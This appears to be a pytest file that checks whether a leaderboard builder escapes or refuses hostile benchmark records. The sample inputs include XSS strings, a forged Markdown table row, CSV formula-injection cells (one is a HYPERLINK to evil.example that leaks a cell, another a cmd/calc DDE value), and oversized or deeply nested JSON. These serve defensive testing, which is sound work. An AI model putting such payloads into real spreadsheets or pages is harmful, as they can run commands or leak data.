"""Hostile records against the leaderboard: nothing a record holds runs, forges a row, or crashes a build.

Each case is a repro from issue 18 (part 7): raw HTML kept in LEADERBOARD.md, a `|` plus newline forging a
table row, a `=HYPERLINK(...)` formula cell in leaderboard.csv, a 60 MB record, 20,000 metrics and a
`success_rate` of 7.5 published, a 5000-digit seed ending in a traceback instead of a clean exit code 2.
"""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys

import pytest

from evaluation.leaderboard import Leaderboard
from evaluation.records import RecordError, validate_record
from test_leaderboard import make_record

CLI = [sys.executable, "-m", "agentgym_opd.cli", "leaderboard"]


def built(tmp_path, *records) -> dict[str, str]:
    board = Leaderboard(tmp_path / "lb")
    for r in records:
        board.add(r)
    board.build()
    return {name: (tmp_path / "lb" / name).read_text() for name in ("LEADERBOARD.md", "leaderboard.csv", "index.html")}


def table_rows(md: str) -> list[list[str]]:
    """Markdown table rows split on unescaped pipes (what a renderer sees as cells)."""
    import re

    return [re.split(r"(?<!\\)\|", line)[1:-1] for line in md.splitlines() if line.startswith("|")]


def test_raw_html_in_names_is_escaped_in_markdown_and_html(tmp_path):
    evil = '<script>alert("x")</script><img src=x onerror=alert(1)>'
    out = built(tmp_path, make_record(algorithm=evil, student=evil, teacher=evil))
    assert "<script" not in out["LEADERBOARD.md"] and "<img" not in out["LEADERBOARD.md"]
    assert "&lt;script&gt;" in out["LEADERBOARD.md"]
    page = out["index.html"]
    assert "<script>alert" not in page and "<img src=x" not in page and "&lt;script&gt;alert" in page


def test_pipe_and_newline_in_a_name_cannot_forge_a_row(tmp_path):
    forged = "opd | 1.000 [1.000, 1.000] |\n| 1 | forged"
    with pytest.raises(RecordError, match="'algorithm'.*printable"):
        validate_record(make_record(algorithm=forged))
    from evaluation.leaderboard import md_cell

    assert "\n" not in md_cell(forged) and md_cell("a|b") == "a\\|b" and md_cell("x\\|y") == "x\\\\\\|y"
    # a pipe alone is accepted in a name, and stays inside its cell
    md = built(tmp_path, make_record(algorithm="opd | 1.000 | forged", seed=0),
               make_record(algorithm="grpo", seed=0, success=0.3))["LEADERBOARD.md"]
    rows = table_rows(md)
    ranked = [r for r in rows if r and r[0].strip() in ("1", "2")]
    assert len(ranked) == 2 and {len(r) for r in ranked} == {len(rows[0])}, rows  # as many cells as the header
    assert not any(r[1].strip() == "forged" for r in rows)


def test_csv_cells_never_start_a_formula(tmp_path):
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    out = built(tmp_path, make_record(algorithm="@SUM(1+1)", student=formula, teacher="+cmd|' /C calc'!A0"))
    cells = [c for row in csv.reader(io.StringIO(out["leaderboard.csv"])) for c in row]
    assert cells and not any(c[:1] in ("=", "+", "@") or (c[:1] == "-" and not c[1:2].isdigit()) for c in cells), cells
    assert "'" + formula in cells
    from evaluation.leaderboard import csv_cell

    assert csv_cell(-0.5) == -0.5 and csv_cell("-x") == "'-x"


def test_a_60_megabyte_record_is_refused_before_it_is_read(tmp_path):
    big = tmp_path / "big.json"
    record = make_record()
    record["algorithm_config"] = {"pad": "a" * (60 * 1024 * 1024)}
    big.write_text(json.dumps(record))
    with pytest.raises(RecordError, match="bytes; a record is at most 1000000 bytes"):
        Leaderboard(tmp_path / "lb").add(big)
    with pytest.raises(RecordError, match="bytes of JSON"):
        validate_record(record)
    # the same file dropped into records/ stops a build with a clear error
    (tmp_path / "lb" / "records").mkdir(parents=True)
    big.rename(tmp_path / "lb" / "records" / "big.json")
    with pytest.raises(RecordError, match="big.json"):
        Leaderboard(tmp_path / "lb").build()


def test_20000_metrics_are_refused():
    record = make_record()
    record["metrics"] = {f"m{i}": {"mean": 0.1, "stderr": 0.0} for i in range(20_000)}
    with pytest.raises(RecordError, match="'metrics' has 20000 metrics; at most 200"):
        validate_record(record)


@pytest.mark.parametrize("metric, mean, message", [
    ("success_rate", 7.5, "is a rate"),
    ("success_rate", -0.1, "is a rate"),
    ("error_rate/invalid_action", 1.5, "is a rate"),
    ("pass@1", 2.0, "is a rate"),
    ("mean_turns", -3.0, "counts turns"),
    ("score", 1e12, "out of range"),
    ("x<script>", 0.5, "letters, digits"),
])
def test_metric_ranges_come_from_the_schema(metric, mean, message):
    record = make_record()
    record["metrics"][metric] = {"mean": mean, "stderr": 0.0}
    with pytest.raises(RecordError, match=message):
        validate_record(record)


def test_curve_points_outside_zero_one_are_refused():
    with pytest.raises(RecordError, match="'curve'"):
        validate_record(make_record(curve=[{"rollouts": 0, "success_rate": 3.0}]))


def test_a_5000_digit_seed_is_a_clean_exit_code_2(tmp_path):
    text = json.dumps(make_record()).replace('"seed": 0', '"seed": ' + "9" * 5000)
    assert "9" * 5000 in text
    path = tmp_path / "seed.json"
    path.write_text(text)
    out = subprocess.run(CLI + ["--root", str(tmp_path / "lb"), "add", str(path)], capture_output=True, text=True, cwd=tmp_path)
    assert out.returncode == 2, out.stderr
    assert "Traceback" not in out.stderr and out.stderr.startswith("error:") and "seed.json" in out.stderr
    # a Python int of that size (a record built in code) is refused by the schema too
    with pytest.raises(RecordError):
        validate_record(make_record(seed=10**5000))
    with pytest.raises(RecordError, match="'seed'"):
        validate_record(make_record(seed=2**63))


def test_deep_nesting_is_a_clean_error(tmp_path):
    path = tmp_path / "deep.json"
    path.write_text('{"algorithm_config": ' + "[" * 100_000 + "]" * 100_000 + "}")
    out = subprocess.run(CLI + ["--root", str(tmp_path / "lb"), "add", str(path)], capture_output=True, text=True, cwd=tmp_path)
    assert out.returncode == 2 and "Traceback" not in out.stderr and out.stderr.startswith("error:"), out.stderr[-500:]


def test_a_multi_line_system_prompt_is_a_protocol_paragraph_that_cannot_forge_a_row(tmp_path):
    """BFCL's own system prompt spans lines: it is kept in the record, and tables show its fingerprint only."""
    prompt = "You are an expert in composing functions.\n\n| 1 | forged | 1.000 |\nReturn the calls.\t"
    record = make_record(seed=0)
    record["protocol"] = {"action_parser": "text", "system_prompt": prompt}
    assert validate_record(record)["protocol"]["system_prompt"] == prompt
    md = built(tmp_path, record)["LEADERBOARD.md"]
    for table in md.split("\n\n"):  # every row of every table keeps its header's cell count
        rows = table_rows(table)
        assert len({len(r) for r in rows}) <= 1, table
        assert not any(r[1].strip() == "forged" for r in rows if len(r) > 1)
    assert "\n| 1 | forged" not in md
    bad = dict(record, protocol={"system_prompt": "ok\x1b[31m"})
    with pytest.raises(RecordError, match="system_prompt: printable text"):
        validate_record(bad)
    for key, value in (("action_parser", "text\nforged"), ("system_prompt", "x" * 8001)):
        with pytest.raises(RecordError, match="printable"):
            validate_record(dict(record, protocol={key: value}))
